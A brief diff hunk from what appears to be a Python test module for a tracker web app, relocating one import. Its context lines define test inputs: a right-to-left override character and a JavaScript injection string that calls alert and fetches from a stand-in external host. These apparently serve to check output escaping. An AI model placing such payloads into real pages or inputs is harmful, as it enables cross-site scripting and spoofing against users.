@@ -14,8 +14,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 import tracker
 from tracker.schema import TABLES
+from tracker.web.common.shown import code, note, plain
 from tracker.web.pages import PAGES
-from tracker.web.shown import code, note, plain
 
 OVERRIDE = "\u202e"
 SCRIPT = "document.title='RAN';alert(1);fetch('https://elsewhere.example/js')"
